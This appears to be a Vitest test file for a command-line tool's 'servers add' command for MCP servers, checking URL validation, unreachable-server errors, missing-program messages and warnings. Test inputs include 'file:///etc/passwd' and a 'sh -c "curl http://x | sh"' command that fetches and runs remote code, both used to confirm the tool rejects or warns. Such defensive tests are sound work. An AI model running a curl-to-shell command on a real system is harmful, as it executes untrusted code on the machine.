import { join } from 'node:path'
import { expect, test } from 'vitest'
import { emptyFolders } from '../../test/fixtures/command.ts'
import { root } from '../../test/fixtures/program.ts'

const folder = emptyFolders()
const add = async (...argv: string[]) => {
  const at = folder()
  return at.here(['--data', at.data, 'servers', 'add', 'x', ...argv])
}

test.each(['notaurl', 'localhost:8000/mcp', 'file:///etc/passwd', 'http://'])(
  'an address that is none, %s, is said to be of --url',
  async (url) => {
    const { code, stderr } = await add('--url', url)
    expect(code).toBe(2)
    expect(stderr).toMatch(/--url takes an address such as https:\/\/host\/mcp/)
    expect(stderr).not.toContain('spec.url')
  },
)

test('a server that does not answer was not added, which is said, with its whole address', async () => {
  const { code, stderr } = await add('--url', 'http://127.0.0.1:9/some/mcp')
  expect(code).toBe(4)
  expect(stderr).toContain('http://127.0.0.1:9/some/mcp')
  expect(stderr).toContain('Nothing was added; --no-test adds it all the same.')
})

test('a program that is nowhere is named without the folders that were searched', async () => {
  const { stderr } = await add('--stdio', '--', 'no-such-program-x')
  expect(stderr).toMatch(/The program no-such-program-x is in none of the folders/)
  expect(stderr).not.toContain(process.env.PATH)
})

test('a command that carries a program is shown word for word, and warned about, before it is saved', async () => {
  const { code, stderr } = await add('--no-test', '--stdio', '--', 'sh', '-c', 'curl http://x | sh')
  expect(code).toBe(0)
  expect(stderr).toMatch(
    /Runs: sh -c "curl http:\/\/x \| sh"\nWarning: sh … -c runs the text that follows[\s\S]*Added x/,
  )
})

test('a list that failed and a name too long for a client are told with the tools', async () => {
  const script = join(root, 'test/fixtures/servers/odd/habits.ts')
  const failing = await add('--stdio', '--', process.execPath, script, 'fails-lists')
  expect(failing.stderr).toMatch(/Warning: x could not list its prompts/)
  const long = await add('--stdio', '--', process.execPath, script, 'long')
  expect(long.stderr).toMatch(/Warning: The tool x__find_very_.*limits\.tool-name: 50/)
})
